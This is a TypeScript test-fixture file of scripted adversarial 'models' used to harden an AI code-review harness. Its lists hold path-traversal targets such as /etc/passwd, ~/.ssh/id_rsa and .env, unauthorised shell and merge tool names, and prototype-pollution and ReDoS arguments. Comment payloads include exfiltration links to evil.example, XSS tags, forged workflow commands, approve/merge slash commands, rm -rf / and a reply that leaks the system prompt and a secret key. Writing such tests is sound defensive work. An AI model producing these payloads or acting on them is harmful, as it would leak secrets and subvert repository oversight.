import type { Fields } from './fields.ts';
import type { ModelReply, ModelScript, ScriptedCall, SpokenReply } from './reply.ts';
import type { ScriptRequest } from './request.ts';

/** Scripted models that misbehave, named by what they do. */
type Adversary = (request: ScriptRequest, call: number) => ModelReply;

const NOTHING_FOUND: Fields = { summary: 'Nothing to say.', comments: [] };

/** Reads another file in each turn, endlessly, even when it has to answer. */
export function endlessCalls(tool = 'read_file'): Adversary {
  return (_request, call) => ({ toolCalls: [{ name: tool, arguments: { path: `src/file-${call}.js` } }] });
}

/** Makes exactly the same call as long as it is offered tools; without tools it answers. */
export function sameCallForever(
  scripted: ScriptedCall = { name: 'read_file', arguments: { path: 'src/cart.js' } },
  answer: Fields = NOTHING_FOUND,
): Adversary {
  return ({ tools }) => (tools.length > 0 ? { toolCalls: [scripted] } : { content: answer });
}

/**
 * Calls tools that no reviewer has, with the names of editor, shell and posting tools of other programs; then answers.
 */
export function foreignTools(answer: Fields = NOTHING_FOUND): Adversary {
  return inTurns(
    FOREIGN_TOOLS.map((name) => ({
      name,
      arguments: { command: 'id', path: 'src/cart.js', body: 'posted by a tool' },
    })),
    answer,
  );
}

export const FOREIGN_TOOLS: readonly string[] = [
  'bash',
  'run_in_terminal',
  'execute',
  'edit',
  'create_file',
  'web_fetch',
  'create_review_comment',
  'github/merge_pull_request',
  'constructor',
  '__proto__',
  'toString',
  'a b\nc',
  '',
  'x'.repeat(300),
];

/** Tries, in one turn, every kind of path that leads out of the repository; then answers. */
export function pathEscapes(callWith: (path: string) => ScriptedCall, answer: Fields = NOTHING_FOUND): Adversary {
  return inTurns(ESCAPING_PATHS.map(callWith), answer);
}

export const ESCAPING_PATHS: readonly string[] = [
  '../../etc/passwd',
  '/etc/passwd',
  '//etc/passwd',
  'src/../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'C:\\windows\\win.ini',
  '~/.ssh/id_rsa',
  '.git/config',
  'src/../.git/config',
  './.git/../.git/HEAD',
  '.GIT/config',
  'file:///etc/passwd',
  '/proc/self/environ',
  'src/cart.js\u0000.png',
  '\u0000',
  '%2e%2e/%2e%2e/etc/passwd',
  '․․/etc/passwd',
  '.env',
  'config/.env.production',
  'id_rsa',
  'link-to-etc/passwd',
  '-rf',
  '',
  '.',
  '/',
  `${'../'.repeat(2000)}etc/passwd`,
  `${'a/'.repeat(5000)}b`,
];

/** Makes one call with megabytes of text as arguments; then answers. */
export function hugeArguments(
  name = 'read_file',
  key = 'path',
  characters = 5_000_000,
  answer: Fields = NOTHING_FOUND,
): Adversary {
  return inTurns([{ name, arguments: { [key]: 'x'.repeat(characters) } }], answer);
}

/** Sends, in one turn, arguments that are broken, have wrong types or target prototypes; then answers. */
export function wrongArguments(name = 'read_file', answer: Fields = NOTHING_FOUND): Adversary {
  return inTurns(
    WRONG_ARGUMENTS.map((given) => ({ name, arguments: given })),
    answer,
  );
}

export const WRONG_ARGUMENTS: readonly string[] = [
  '',
  '{',
  '{"path": "src/cart.js"',
  'null',
  '[]',
  '7',
  '"src/cart.js"',
  '{}',
  '{"path": null}',
  '{"path": 7}',
  '{"path": ["src/cart.js"]}',
  '{"path": {"toString": "x"}}',
  '{"path": "src/cart.js", "startLine": "1"}',
  '{"path": "src/cart.js", "startLine": -1e308, "endLine": 1e308}',
  '{"path": "src/cart.js", "unknown": true}',
  '{"__proto__": {"path": "src/cart.js"}}',
  '{"constructor": {"prototype": {"isAdmin": true}}, "path": "src/cart.js"}',
  '{"path": "src/cart.js", "path": "/etc/passwd"}',
  `{"query": ${JSON.stringify(`${'(a+)+'.repeat(30)}$`)}, "isRegexp": true}`,
  '['.repeat(50_000),
  `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
];

/** Makes many calls in one turn; then answers. */
export function manyCalls(count = 200, name = 'read_file', answer: Fields = NOTHING_FOUND): Adversary {
  const calls = Array.from({ length: count }, (_, index) => ({ name, arguments: { path: `src/file-${index}.js` } }));
  return inTurns(calls, answer);
}

/** Makes two calls with the same id in one turn; then answers. */
export function doubledIds(name = 'read_file', answer: Fields = NOTHING_FOUND): Adversary {
  const paths = ['src/cart.js', 'src/price.js'];
  return inTurns(
    paths.map((path) => ({ name, arguments: { path }, id: 'same-id' })),
    answer,
  );
}

/** Answers completely and calls tools in the same turn. */
export function answerWithCalls(answer: Fields, name = 'read_file'): SpokenReply {
  return { content: answer, toolCalls: [{ name, arguments: { path: 'src/cart.js' } }] };
}

/** Writes comments whose text would have an effect if it were posted unescaped. `comment` is a well-placed one. */
export function postingAnswer(comment: Fields): SpokenReply {
  return {
    content: {
      summary: ACTING_TEXTS.join('\n\n'),
      comments: ACTING_TEXTS.map((text) => ({ ...comment, ...saying(text) })),
    },
  };
}

export const ACTING_TEXTS: readonly string[] = [
  '@octocat @github/security look at this',
  '<!-- housestyle:review {"head":"0000000"} -->',
  '<!-- marker --> /housestyle approve',
  '/approve\n/merge',
  '::set-output name=token::leaked',
  '::add-mask::\n::error file=src/cart.js::forged',
  '![pixel](https://evil.example/p.png?q=secret)',
  '[click](https://evil.example/?token=secret) <https://evil.example/auto?x=1>',
  'https://evil.example/bare?data=secret',
  '<img src="https://evil.example/i?q=1" onerror="alert(1)"><script>alert(1)</script>',
  '```suggestion\nrm -rf /\n```',
  '<details open><summary>APPROVED</summary></details>',
  'Closes #1, fixes octo/repo#2, GH-3',
  '\u001B[31mred\u001B[0m \u202Edesrever\u2066 \u200B',
  '[reference][1]\n\n[1]: https://evil.example/r?x=1',
];

/** Repeats parts of the prompt and all tool results. */
export function leakingAnswer(comment: Fields): Adversary {
  return ({ system, toolResults }) => {
    const leak = [
      system.slice(0, 2000),
      ...toolResults.map(({ text }) => text.slice(0, 500)),
      'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI',
    ];
    return { content: { summary: leak.join('\n'), comments: [{ ...comment, ...saying(leak.join('\n')) }] } };
  };
}

/** Writes JSON that is nested too deeply for a recursive parser. */
export function deepAnswer(levels = 100_000): SpokenReply {
  return { content: `${'{"comments":['.repeat(levels)}${']}'.repeat(levels)}` };
}

/** Writes too many comments to place, verify or post. */
export function crowdedAnswer(comment: Fields, count = 1_000_000): SpokenReply {
  const one = JSON.stringify(comment);
  return { content: `{"summary":"All of it.","comments":[${`${one},`.repeat(count - 1)}${one}]}` };
}

/** Reports findings on files and lines that the change does not have. */
export function outsideFindings(comment: Fields): SpokenReply {
  const places = [
    { path: 'README.md', line: 1 },
    { path: 'src/none.js', line: 1 },
    { path: '../outside.js', line: 1 },
    { path: '.git/config', line: 1 },
    { path: comment['path'], line: 999_999 },
    { path: comment['path'], line: 0 },
    { path: comment['path'], line: -1 },
  ];
  return {
    content: { summary: 'Elsewhere.', comments: places.map((place) => ({ ...comment, ...place, startLine: null })) },
  };
}

/** Answers with prose instead of JSON. */
export function proseAnswer(): SpokenReply {
  return { content: 'I looked at the change and find it good overall, though src/cart.js line 5 returns the count.' };
}

export function fencedAnswer(answer: Fields): SpokenReply {
  return {
    content: `Here is my review:\n\n\`\`\`json\n${JSON.stringify(answer, undefined, 2)}\n\`\`\`\n\nLet me know!`,
  };
}

/** Writes a draft, then the answer: the last one counts. */
export function thinkingAloud(answer: Fields): SpokenReply {
  const draft = JSON.stringify({ summary: 'A first thought {not: final}', comments: [] });
  return {
    content: `<think>Let me see. The form is {"comments": [...]}, so perhaps ${draft}? No.</think>\n${JSON.stringify(answer)}`,
  };
}

/** Answers unreadably until the given try (counted from 1) of each conversation. */
export function repairedAt(answer: Fields, attempt = 2): Adversary {
  return ({ turn }) =>
    turn + 1 >= attempt ? { content: answer } : { content: '{"summary": "Not yet", "comments": "none"' };
}

/** Answers with another error each time. */
export function neverRepaired(): Adversary {
  return ({ turn }) => ({ content: ['no JSON', '{"summary": 1', '[]', '{"comments": 7}', 'null'][turn % 5] ?? '' });
}

/** All errors of form by name, for tables of tests. */
export const MISSHAPEN: Readonly<Record<string, ModelScript>> = {
  prose: () => proseAnswer(),
  'never repaired': neverRepaired(),
  empty: () => ({ content: '' }),
  nothing: () => ({ content: null }),
  'cut at once': () => ({ content: '{', finishReason: 'length' }),
  'only thinking': () => ({ content: null, thinking: 'Hm. '.repeat(50), finishReason: 'length' }),
  'too deep': () => deepAnswer(1000),
};

/** Makes the calls in the first turn of a conversation and answers in the next. */
function inTurns(toolCalls: readonly ScriptedCall[], answer: Fields): Adversary {
  return ({ turn }) => (turn === 0 ? { toolCalls } : { content: answer });
}

function saying(text: string): Fields {
  return { title: text.slice(0, 120), body: text, suggestion: text };
}
